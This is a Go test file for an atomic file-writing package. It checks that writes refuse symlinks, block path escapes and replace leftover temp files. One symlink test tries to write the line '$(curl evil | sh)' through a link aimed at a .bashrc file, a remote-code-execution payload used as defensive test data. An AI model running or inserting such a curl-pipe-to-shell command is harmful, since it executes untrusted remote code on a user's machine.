package atomicfile

import (
	"errors"
	"os"
	"path/filepath"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// writers are the ways this package writes a file.
var writers = []struct {
	name  string
	write func(path string, data []byte) error
}{
	{"Write", func(p string, d []byte) error { return Write(p, d, 0o644) }},
	{"WriteVolatile", func(p string, d []byte) error { return WriteVolatile(p, d, 0o644) }},
	{"OpenFile", func(p string, d []byte) error {
		f, err := OpenFile(p, os.O_CREATE|os.O_WRONLY|os.O_TRUNC, 0o644)
		if err != nil {
			return err
		}
		_, err = f.Write(d)
		return errors.Join(err, f.Close())
	}},
	{"OpenFile append", func(p string, d []byte) error {
		f, err := OpenFile(p, os.O_CREATE|os.O_WRONLY|os.O_APPEND, 0o644)
		if err != nil {
			return err
		}
		_, err = f.Write(d)
		return errors.Join(err, f.Close())
	}},
}

func TestWriteRegularFile(t *testing.T) {
	for _, w := range writers {
		t.Run(w.name, func(t *testing.T) {
			dir := t.TempDir()
			p := filepath.Join(dir, "state.json")
			require.NoError(t, w.write(p, []byte("one")))
			got, err := os.ReadFile(p)
			require.NoError(t, err)
			assert.Equal(t, "one", string(got))
			assert.Equal(t, []string{"state.json"}, names(t, dir), "no temp file left")
		})
	}
}

// TestRefusesSymlink: a link where a file is written, to an existing file
// or to nothing yet, is refused; the target and the link stay as they were.
func TestRefusesSymlink(t *testing.T) {
	for _, w := range writers {
		for _, dangling := range []bool{false, true} {
			name := w.name + "/to a file"
			if dangling {
				name = w.name + "/dangling"
			}
			t.Run(name, func(t *testing.T) {
				outside := filepath.Join(t.TempDir(), ".bashrc")
				if !dangling {
					require.NoError(t, os.WriteFile(outside, []byte("export PATH=/usr/bin\n"), 0o600))
				}
				dir := t.TempDir()
				link := filepath.Join(dir, "events.jsonl")
				require.NoError(t, os.Symlink(outside, link))

				err := w.write(link, []byte("$(curl evil | sh)\n"))
				var se *SymlinkError
				require.ErrorAs(t, err, &se)
				assert.Equal(t, link, se.Path)
				assert.Equal(t, outside, se.Target)
				assert.Contains(t, err.Error(), link, "the error names the path")
				assert.NotEmpty(t, se.Hint())

				if dangling {
					assert.NoFileExists(t, outside, "nothing created through the link")
				} else {
					got, err := os.ReadFile(outside)
					require.NoError(t, err)
					assert.Equal(t, "export PATH=/usr/bin\n", string(got), "target byte-identical")
				}
				fi, err := os.Lstat(link)
				require.NoError(t, err)
				assert.NotZero(t, fi.Mode()&os.ModeSymlink, "the link is not replaced")
				assert.Equal(t, []string{"events.jsonl"}, names(t, dir), "no temp file left")
			})
		}
	}
}

func TestCheckNoLinks(t *testing.T) {
	base := t.TempDir()
	outside := t.TempDir()
	require.NoError(t, os.MkdirAll(filepath.Join(base, "workflows"), 0o755))
	require.NoError(t, os.WriteFile(filepath.Join(base, "config.toml"), nil, 0o644))
	require.NoError(t, os.Symlink(outside, filepath.Join(base, "state")))
	require.NoError(t, os.Symlink(filepath.Join(outside, "x.toml"), filepath.Join(base, "workflows", "bug.toml")))

	tests := []struct {
		path     string
		wantLink string // "" = no error
		wantErr  bool
	}{
		{path: "config.toml"},
		{path: "workflows/feature.toml"},
		{path: "new/dir/file.json"},
		{path: "workflows/bug.toml", wantLink: "workflows/bug.toml"},
		{path: "state/.gitignore", wantLink: "state"},
		{path: "state/clarifications/issue-1.json", wantLink: "state"},
		{path: "../escape.json", wantErr: true},
	}
	for _, tt := range tests {
		t.Run(tt.path, func(t *testing.T) {
			err := CheckNoLinks(base, filepath.Join(base, filepath.FromSlash(tt.path)))
			var se *SymlinkError
			switch {
			case tt.wantLink != "":
				require.ErrorAs(t, err, &se)
				assert.Equal(t, filepath.Join(base, filepath.FromSlash(tt.wantLink)), se.Path)
			case tt.wantErr:
				require.Error(t, err)
				assert.False(t, errors.As(err, &se))
			default:
				assert.NoError(t, err)
			}
		})
	}
}

func names(t *testing.T, dir string) []string {
	t.Helper()
	es, err := os.ReadDir(dir)
	require.NoError(t, err)
	var out []string
	for _, e := range es {
		out = append(out, e.Name())
	}
	return out
}

// TestLockedTempReplacesLeftovers: a write under the file's lock
// (Options.Locked) goes through the one name LockedTemp; what a killed
// writer left there (a half-written file, or a link someone made) is
// replaced, never written through, and no temp file stays.
func TestLockedTempReplacesLeftovers(t *testing.T) {
	for _, tc := range []struct {
		name     string
		leftover func(t *testing.T, tmp, victim string)
	}{
		{"none", func(*testing.T, string, string) {}},
		{"half-written file", func(t *testing.T, tmp, _ string) {
			require.NoError(t, os.WriteFile(tmp, []byte(`{"clarifications":[{"id":`), 0o600))
		}},
		{"link to another file", func(t *testing.T, tmp, victim string) { require.NoError(t, os.Symlink(victim, tmp)) }},
		{"dangling link", func(t *testing.T, tmp, victim string) {
			require.NoError(t, os.Symlink(filepath.Join(filepath.Dir(victim), "nowhere"), tmp))
		}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			dir, other := t.TempDir(), t.TempDir()
			p := filepath.Join(dir, "issue-1.json")
			victim := filepath.Join(other, "victim")
			require.NoError(t, os.WriteFile(victim, []byte("keep"), 0o644))
			tmp := LockedTemp(p)
			assert.Equal(t, filepath.Join(dir, ".issue-1.json.tmp-locked"), tmp)
			assert.True(t, IsTemp(filepath.Base(tmp)), "a temp file's name: doctor and .gitignore know it")
			tc.leftover(t, tmp, victim)

			require.NoError(t, WriteWith(p, []byte("new"), 0o644, Options{Durable: true, Locked: true}))
			got, err := os.ReadFile(p)
			require.NoError(t, err)
			assert.Equal(t, "new", string(got))
			assert.Equal(t, []string{"issue-1.json"}, names(t, dir), "the leftover went, and no temp file stays")
			kept, err := os.ReadFile(victim)
			require.NoError(t, err)
			assert.Equal(t, "keep", string(kept))
			assert.Equal(t, []string{"victim"}, names(t, other))
		})
	}
}

// TestWait: a write with Wait has its new content written beside the
// file when Wait is called, the file still as it was; it takes the
// file's place when Wait returns nil, and is dropped, the file and its
// directory as they were, when Wait fails. A shadow is not used.
func TestWait(t *testing.T) {
	refused := errors.New("not now")
	for _, tc := range []struct {
		name   string
		o      Options
		wait   error
		want   string
		shadow bool // the path has a shadow beside it, which Wait leaves alone
	}{
		{"taken", Options{Durable: true}, nil, "two", false},
		{"dropped", Options{Durable: true}, refused, "one", false},
		{"taken, not durable", Options{}, nil, "two", false},
		{"dropped, locked temp", Options{Durable: true, Locked: true}, refused, "one", false},
		{"taken, locked temp", Options{Durable: true, Locked: true}, nil, "two", false},
		{"taken, no shadow", Options{Durable: true}, nil, "two", true},
	} {
		t.Run(tc.name, func(t *testing.T) {
			dir := t.TempDir()
			p := filepath.Join(dir, "state.json")
			require.NoError(t, Write(p, []byte("one"), 0o644))
			want := []string{"state.json"}
			if tc.shadow {
				tc.o.Shadow = ShadowOf(p)
				require.NoError(t, Write(tc.o.Shadow, []byte("the shadow"), 0o644))
				want = names(t, dir)
			}
			calls := 0
			tc.o.Wait = func() error {
				calls++
				got, err := os.ReadFile(p)
				require.NoError(t, err)
				assert.Equal(t, "one", string(got), "while it waits, the file is as it was")
				var beside []string
				for _, n := range names(t, dir) {
					if IsTemp(n) {
						data, err := os.ReadFile(filepath.Join(dir, n))
						require.NoError(t, err)
						beside = append(beside, string(data))
					}
				}
				assert.Equal(t, []string{"two"}, beside, "the new content is written beside it")
				return tc.wait
			}
			err := WriteWith(p, []byte("two"), 0o644, tc.o)
			assert.Equal(t, 1, calls)
			if tc.wait != nil {
				assert.ErrorIs(t, err, tc.wait)
			} else {
				assert.NoError(t, err)
			}
			got, err := os.ReadFile(p)
			require.NoError(t, err)
			assert.Equal(t, tc.want, string(got))
			assert.Equal(t, want, names(t, dir), "no temp file left")
			if tc.shadow {
				data, err := os.ReadFile(tc.o.Shadow)
				require.NoError(t, err)
				assert.Equal(t, "the shadow", string(data))
			}
		})
	}
}
